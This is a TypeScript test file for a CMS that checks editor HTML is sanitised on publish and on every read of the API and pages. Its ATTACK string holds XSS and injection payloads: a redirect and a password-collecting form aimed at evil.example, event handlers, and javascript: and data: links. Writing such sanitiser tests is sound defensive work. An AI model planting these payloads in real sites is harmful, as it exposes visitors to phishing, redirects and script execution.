import { asc, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { articles, giveaways, homeSections, products, webPages } from '../db/schema';
import { createTestApp, type TestApp } from '../test/helper';
import { createTestWebRoot } from '../test/web-root';
import { call, staffSession } from './test-studio';

// CMS HTML is sanitised on the server with one allow-list (docs/decisions/080-content-html-identity-and-art.md): what the
// studio publishes is written clean to the public tables, and every read of stored HTML is sanitised again, so a
// row written before the allow-list (or straight into the database) reaches neither the API nor a page.

/** What an editor's body could carry: a redirect, a base URL, styles over the page, a form, handlers, script URLs. */
const ATTACK =
  '<meta http-equiv="refresh" content="0;url=https://evil.example/qz">' +
  '<base href="https://evil.example/qz/">' +
  '<link rel="stylesheet" href="https://evil.example/qz.css">' +
  '<style>header{visibility:hidden}</style>' +
  '<form action="https://evil.example/qz"><input name="qzpass"><button>Kirim</button></form>' +
  '<iframe src="https://evil.example/qz"></iframe>' +
  '<h2 onclick="alert(0)">Judul Qzsafe</h2>' +
  '<p>Isi Qzsafe <img src="/media/qz.png" alt="gambar" onerror="alert(1)"> <a href="javascript:alert(2)">tautan</a> ' +
  '<a href="data:text/html,qz">data</a> <a href=" vbscript:msgbox(3)">vb</a> <span style="position:fixed;inset:0">lapisan</span> ' +
  '<a href="https://denka.co.id/" target="_blank">Denka</a></p>';

/** Nothing of the attack is left in `html`. */
function expectNothingLeft(html: string) {
  for (const left of ['evil.example', 'http-equiv', '<base', '<style', 'visibility', '<form', '<input', 'qzpass', '<iframe', 'onclick'])
    expect(html).not.toContain(left);
  for (const left of ['onerror', 'javascript:', 'data:text', 'vbscript', 'position:fixed', 'alert(']) expect(html).not.toContain(left);
}

/** Nothing of the attack is left; the text, the heading, the image and the safe link are. */
function expectClean(html: string) {
  expectNothingLeft(html);
  for (const left of ['<meta', '<link', '<button', 'style=']) expect(html).not.toContain(left);
  expect(html).toContain('Judul Qzsafe</h2>');
  expect(html).toContain('Isi Qzsafe <img src="/media/qz.png" alt="gambar" />');
  expect(html).toContain('<a href="https://denka.co.id/" target="_blank" rel="noopener noreferrer">Denka</a>');
  expect(html).toContain('<span>lapisan</span>');
}

let t: TestApp;
let web: Awaited<ReturnType<typeof createTestWebRoot>>;
beforeAll(async () => {
  web = await createTestWebRoot();
  t = await createTestApp({ webRoot: web.root, apiCacheTtlMs: 0, studioScheduleMs: 0 });
});
afterAll(async () => {
  await t?.close();
  web?.remove();
});

const api = async (url: string) => {
  const response = await t.app.inject({ url: `/api/cms/${url}` });
  expect(response.statusCode, response.body).toBe(200);
  return response.json().data as Record<string, unknown>;
};
const page = async (url: string) => {
  const response = await t.app.inject({ url, headers: { accept: 'text/html' } });
  expect(response.statusCode).toBe(200);
  return response.body;
};
/** The CMS bodies among the page's first-screen reads (the JSON block the server puts into the page's HTML). */
function bootBodies(html: string): string[] {
  const block = /<script type="application\/json" id="boot-reads">([\s\S]*?)<\/script>/.exec(html)?.[1];
  const bodies: string[] = [];
  JSON.parse(block ?? '{}', (_key, value: unknown) => {
    if (typeof value === 'string' && value.includes('Qzsafe')) bodies.push(value);
    return value;
  });
  return bodies;
}

/** The page's HTML (its head is the app's own) and the bodies it carries are clean; it carries one. */
function expectCleanPage(html: string) {
  expectNothingLeft(html.slice(html.indexOf('<body')));
  const bodies = bootBodies(html);
  expect(bodies.length).toBeGreaterThan(0);
  for (const body of bodies) expectClean(body);
}

/** Saves the entity's draft with `changes` and publishes it, as the studio's editor does. */
async function publishWith(collection: string, id: number, role: 'editor' | 'marketing', changes: Record<string, unknown>) {
  const { cookie } = await staffSession(t, role);
  const entity = (await call(t, `studio/collections/${collection}/${id}`, { cookie })).json().data;
  const saved = await call(t, `studio/collections/${collection}/${id}`, {
    method: 'PUT',
    cookie,
    body: { data: { ...entity.draft, ...changes }, version: entity.version },
  });
  expect(saved.statusCode, saved.body).toBe(200);
  const published = await call(t, `studio/collections/${collection}/${id}/publish`, {
    method: 'POST',
    cookie,
    body: { version: saved.json().data.version },
  });
  expect(published.statusCode, published.body).toBe(200);
}

describe('CMS HTML published in the studio', () => {
  it('a home section body is written clean and comes back clean from the API, in both languages', async () => {
    const [row] = await t.db.select({ id: homeSections.id }).from(homeSections).where(eq(homeSections.key, 'section_1'));
    await publishWith('home-sections', row!.id, 'marketing', { body: ATTACK, body_en: ATTACK });
    const [stored] = await t.db.select().from(homeSections).where(eq(homeSections.id, row!.id));
    expectClean(stored!.body);
    expectClean(stored!.body_en!);
    expectClean(String((await api('v2/section_1?lang=id')).body));
    expectClean(String((await api('v2/section_1?lang=en')).body));
  });

  it('a product description is written clean and comes back clean from the API and in the product page', async () => {
    const [row] = await t.db.select({ id: products.id, slug: products.slug }).from(products).orderBy(asc(products.id)).limit(1);
    await publishWith('products', row!.id, 'editor', { content: ATTACK, content_en: ATTACK });
    const [stored] = await t.db.select({ content: products.content }).from(products).where(eq(products.id, row!.id));
    expectClean(stored!.content);
    expectClean(String((await api(`v3/products/find?slug=${row!.slug}`)).content));
    expectCleanPage(await page(`/product-info/${row!.slug}?lang=en`));
  });

  it('an article body is written clean, keeps its heading ids for the table of contents, and comes back clean', async () => {
    const [row] = await t.db.select({ id: articles.id, slug: articles.slug }).from(articles).orderBy(asc(articles.id)).limit(1);
    await publishWith('articles', row!.id, 'editor', { body: `<h2 id="root">Bagian</h2>${ATTACK}` });
    const [stored] = await t.db.select({ body: articles.body }).from(articles).where(eq(articles.id, row!.id));
    expectClean(stored!.body);
    const article = await api(`v2/event/${row!.slug}`);
    expectClean(String(article.body));
    // A heading may not take the id of the page's own root element: the table of contents gives it another.
    expect(article.toc).toEqual([
      { id: 'bagian', level: 2, text: 'Bagian' },
      { id: 'judul-qzsafe', level: 2, text: 'Judul Qzsafe' },
    ]);
    expect(String(article.body)).toContain('<h2 id="bagian">Bagian</h2>');
    // Without the server's render (no web build here) the article page carries no body: the e2e suite reads it there.
    expectNothingLeft(await page(`/berita_detail/${row!.slug}`));
  });
});

describe('CMS HTML stored before the allow-list (written straight into the tables)', () => {
  it('is sanitised at every read: home section, product, article, web page, giveaway', async () => {
    await t.db.update(homeSections).set({ body: ATTACK }).where(eq(homeSections.key, 'section_2'));
    expectClean(String((await api('v2/section_2')).body));

    const [product] = await t.db
      .select({ id: products.id, slug: products.slug })
      .from(products)
      .orderBy(asc(products.id))
      .offset(1)
      .limit(1);
    await t.db.update(products).set({ content: ATTACK, content_en: ATTACK }).where(eq(products.id, product!.id));
    expectClean(String((await api(`v3/products/find?slug=${product!.slug}&lang=en`)).content));

    const [article] = await t.db
      .select({ id: articles.id, slug: articles.slug })
      .from(articles)
      .orderBy(asc(articles.id))
      .offset(1)
      .limit(1);
    await t.db.update(articles).set({ body: ATTACK }).where(eq(articles.id, article!.id));
    expectClean(String((await api(`v2/event/${article!.slug}`)).body));
    expectCleanPage(await page(`/product-info/${product!.slug}`));

    const [webPage] = await t.db.select({ slug: webPages.slug }).from(webPages).limit(1);
    await t.db.update(webPages).set({ body: ATTACK }).where(eq(webPages.slug, webPage!.slug));
    expectClean(String((await api(`v2/web-page/find?slug=${webPage!.slug}`)).body));

    const [giveaway] = await t.db.select({ slug: giveaways.slug }).from(giveaways).limit(1);
    await t.db.update(giveaways).set({ body: ATTACK }).where(eq(giveaways.slug, giveaway!.slug));
    expectClean(String((await api(`v2/giveaway/find?slug=${giveaway!.slug}`)).body));
  });
});
